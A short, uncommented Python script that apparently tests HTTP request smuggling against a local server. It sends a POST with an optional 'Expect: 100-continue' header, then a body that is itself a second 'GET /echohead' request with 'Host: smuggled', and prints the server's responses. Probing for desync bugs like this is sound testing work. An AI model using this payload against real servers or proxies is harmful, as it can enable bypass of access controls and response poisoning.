import socket,time,sys
port=int(sys.argv[1]); expect = sys.argv[2]=="1"
s=socket.create_connection(("127.0.0.1",port)); s.settimeout(2)
body=b"GET /echohead HTTP/1.1\r\nHost: smuggled\r\n\r\n"
h=b"POST /x HTTP/1.1\r\nHost: a\r\nContent-Length: %d\r\n" % len(body) + (b"Expect: 100-continue\r\n" if expect else b"") + b"\r\n"
s.sendall(h)
time.sleep(0.3)
out=b""
try: out+=s.recv(65536)
except socket.timeout: pass
print("before body:", out.decode('latin1'))
try:
    s.sendall(body)
    time.sleep(0.5)
    out=b""
    while True:
        d=s.recv(65536)
        if not d: out+=b"<EOF>"; break
        out+=d
except Exception as e: out+=repr(e).encode()
print("after body:", out.decode('latin1'))
